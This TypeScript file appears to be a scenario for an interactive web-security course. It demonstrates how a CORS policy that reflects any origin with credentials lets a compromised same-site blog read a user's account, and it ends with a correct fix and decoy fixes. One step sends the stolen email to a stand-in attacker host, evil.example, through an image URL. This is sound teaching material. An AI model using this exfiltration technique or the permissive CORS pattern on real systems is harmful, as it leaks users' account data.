import type { Actor } from './engine/cast.ts';
import { scenario } from './engine/scenario.ts';
import type { SiteHandler } from './engine/sites.ts';

const shop = 'https://shop.example';
const frontEnd = 'https://app.shop.example';
const blog = 'https://blog.shop.example';
const evil = 'https://evil.example';

const page: SiteHandler = () => ({
  headers: { 'content-type': 'text/html' },
  body: '<h1>Ten hats for the summer</h1>',
});
/** Mallory’s server answers with what it has received. */
const collector: SiteHandler = ({ path }) => ({ body: decodeURIComponent(path.split('?')[1] ?? '') });

/** What a page’s script has in its hands after its last fetch. */
const readBy = ({ last }: Actor) => last.json?.email ?? 'nothing';

export default scenario({
  slug: 'cors-with-credentials',
  chapter: 'cross-site',
  title: 'CORS with credentials',
  subtitle: 'A header that lends out the login',
  synonyms: [
    'Access-Control-Allow-Origin',
    'Access-Control-Allow-Credentials',
    'cross-origin resource sharing',
    'reflected origin',
    'origin: true',
    'preflight',
    'same-origin policy',
    'credentials: include',
    'blocked by CORS policy',
  ],
  question: 'My front end has its own origin. Which origins may read what the shop answers?',
  weakness: 'cors-for-every-origin',
  setup: { environment: { FRONT_END_ORIGINS: frontEnd } },
  sites: { [frontEnd]: page, [blog]: page, [evil]: collector },
  openPages: [frontEnd],
  actors: { alice: 'victim' },
  references: ['ASVS V3.4.2', 'ASVS V3.5.1', 'WSTG-CLNT-07', 'RFC6265bis 5.2', 'RFC6265bis 8.2', 'CWE-346', 'CWE-942'],
  steps: [
    {
      title: 'Alice logs in at app.shop.example',
      purpose: 'Let a front end in',
      narration:
        'Cross-origin resource sharing (CORS): a browser lets a page read a response of another origin only if the response names the page’s origin (Access-Control-Allow-Origin) and allows cookies (Access-Control-Allow-Credentials: true). For JSON it asks first, with a preflight (OPTIONS).',
      act: ({ alice }) =>
        alice.on(frontEnd).post(`${shop}/auth/login`, { email: 'alice@shop.example', password: 'rabbit-hole-7' }),
      claims: ['alice gets a session cookie', 'alice is answered 200'],
      ask: {
        question: 'Can the front end read the answer?',
        answer: ({ alice }) => (alice.last.status === 200 ? 'yes' : 'no'),
        vulnerable: 'yes',
        protected: 'yes',
      },
    },
    {
      title: 'Alice reads blog.shop.example, which was taken over',
      purpose: 'Ask in Alice’s name',
      narration: {
        vulnerable:
          'A script in the blog fetches /me from the shop. The blog belongs to the same site, so SameSite=Lax lets the cookie go along, and the shop answers with Alice’s account. The answer names the blog’s origin and allows cookies, because this shop names every origin that asks. So the script may read it.',
        protected:
          'A script in the blog fetches /me from the shop. The blog belongs to the same site, so SameSite=Lax lets the cookie go along, and the shop answers with Alice’s account. CORS does not stop that. But the answer does not name the blog’s origin, so the browser keeps it from the script.',
        both: 'A script in the blog fetches /me from the shop. The blog belongs to the same site, so SameSite=Lax lets the cookie go along, and the shop answers with Alice’s account. CORS does not stop the request. It decides only whether the script may read the response.',
      },
      act: async ({ alice }) => {
        await alice.visit(`${blog}/`);
        await alice.on(blog).get(`${shop}/me`);
      },
      claims: ['alice sends a session cookie', 'alice is answered 200', 'the record of alice is renewed'],
      ask: {
        question: 'What does the blog’s script read?',
        answer: ({ alice }) => readBy(alice),
        vulnerable: 'alice@shop.example',
        protected: 'nothing',
      },
    },
    {
      title: 'The script sends what it has to Mallory',
      purpose: 'Try to carry the data away',
      narration: {
        vulnerable:
          'An image whose address holds the data is enough: no server needs to allow that. Mallory never sees the cookie, which is HttpOnly. She does not need it, as long as Alice’s browser asks for her.',
        protected:
          'An image whose address holds the data is enough: no server needs to allow that. But the script has no data. The shop’s answer did not name the blog’s origin, so the browser kept it from the script.',
        both: 'An image whose address holds the data is enough: no server needs to allow that. Mallory never sees the cookie, which is HttpOnly. If the script could read the answer, she does not need it.',
      },
      act: ({ alice }) => alice.on(blog).image(`${evil}/?${encodeURIComponent(readBy(alice))}`),
      claims: ['alice is answered by https://evil.example'],
      ask: {
        question: 'What does Mallory’s server receive?',
        answer: ({ alice }) => alice.last.text,
        vulnerable: 'alice@shop.example',
        protected: 'nothing',
      },
    },
    {
      title: 'The script tries to fill Alice’s basket',
      purpose: 'Go from reading to changing',
      narration: {
        vulnerable:
          'Along with the account, the script has read the CSRF token. A POST of JSON with a token needs a preflight, and this shop’s answer permits it, so the POST is sent. The shop’s own check then sees that it does not come from a front end of the shop.',
        protected:
          'A POST of JSON needs a preflight. The answer to it does not name the blog’s origin, so the browser does not send the POST. Nor could the script have read a CSRF token for it.',
        both: 'A POST of JSON with a CSRF token needs a preflight, and without permission the browser does not send it. With permission it is sent. The shop’s own check then sees that it does not come from a front end of the shop.',
      },
      act: ({ alice }) => alice.on(blog).post(`${shop}/basket`, { item: '40 rabbits' }),
      claims: {
        vulnerable: ['alice sends a session cookie', 'alice is answered 403'],
        protected: ['alice sends no session cookie'],
      },
      ask: {
        question: 'What happens to the POST?',
        answer: ({ alice }) => (alice.last.status === 403 ? 'refused with 403' : 'not sent'),
        vulnerable: 'refused with 403',
        protected: 'not sent',
      },
    },
    {
      title: 'Alice opens evil.example, which fetches /me too',
      purpose: 'Try from another site',
      narration:
        'Here the cookie’s SameSite=Lax helps: another site’s fetch does not carry it. Where a front end has a domain of its own, the cookie must be SameSite=None, and then the list of origins is all that keeps the whole web from reading.',
      act: async ({ alice }) => {
        await alice.visit(`${evil}/`);
        await alice.on(evil).get(`${shop}/me`);
      },
      claims: ['alice holds a cookie back: SameSite=Lax', 'alice sends no session cookie', 'alice is answered 401'],
      ask: {
        question: 'Whose account does the script read?',
        answer: ({ alice }) => (readBy(alice) === 'nothing' ? 'nobody’s' : readBy(alice)),
        vulnerable: 'nobody’s',
        protected: 'nobody’s',
      },
    },
  ],
  lesson:
    'Access-Control-Allow-Credentials lends your user’s login to every origin you name: name your own front ends, one by one.',
  fix: `const frontEnds = ['https://app.shop.example'];

app.use((req, res, next) => {
  res.vary('Origin'); // a cache keeps the answers to different origins apart
  const origin = req.get('origin');
  if (origin === undefined || !frontEnds.includes(origin)) return next();
  res.set({ 'access-control-allow-origin': origin, 'access-control-allow-credentials': 'true' });
  next(); // and an answer to preflights: see middleware/cors.ts
});`,
  notTheFix: [
    'cors({ origin: true, credentials: true }), which makes every CORS error go away: it answers each origin with its own name.',
    'Allowing null, “for local files”: a sandboxed frame of any site has the origin null.',
    'CORS as a defense against CSRF: a form needs no permission to be sent. CORS decides about reading.',
    'Leaving out Vary: Origin: a cache may give one origin the response that names another one.',
  ],
  repairs: {
    fix: {
      title: 'List the front ends',
      idea: 'The shop compares Origin with an exact list, and names only an origin that is on it.',
      because: 'The blog’s origin is not on the list, so the browser keeps the response from its script.',
    },
    decoys: [
      {
        file: 'cors-by-end-of-name',
        title: 'Allow everything below shop.example',
        idea: 'The shop allows every origin whose name ends with its own domain. Nobody else can have such a name.',
        because:
          'The blog has such a name, too, and it was taken over. Without a dot in the comparison, even https://evilshop.example passes.',
        fails: { step: 2, answer: 'alice@shop.example' },
      },
      {
        file: 'cors-with-a-star',
        title: 'Allow *, with credentials',
        idea: 'Access-Control-Allow-Origin: * names nobody, so the shop lends its login to nobody in particular.',
        because:
          'A browser accepts no * for a request with cookies. That shuts out the blog, and the shop’s own front end as well.',
        fails: { step: 1, answer: 'no' },
      },
    ],
  },
});
